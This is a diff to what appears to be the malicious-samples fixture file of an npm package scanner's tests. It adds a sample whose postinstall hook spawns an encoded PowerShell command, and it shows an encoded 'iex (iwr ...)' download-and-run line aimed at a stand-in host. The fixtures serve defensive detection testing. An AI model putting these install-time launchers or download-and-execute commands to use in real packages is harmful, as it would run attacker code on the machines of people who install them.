@@ -18,6 +18,14 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 export const samples: Samples = {
   malicious: [
     {
+      name: 'an encoded script that only asks',
+      files: {
+        'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
+        'setup.js': `const script = 'Write-Output (Get-ItemProperty HKLM:/SYSTEM).Long';\nrequire('child_process').spawn('powershell', ['-EncodedCommand', Buffer.from(script, 'utf16le').toString('base64')]);\n`,
+      },
+      expected: [at('encoded-command', 'medium', 'setup.js', 2)],
+    },
+    {
       name: 'a function that has a runtime run an address',
       files: {
         'package.json': manifest({ main: 'index.js' }),
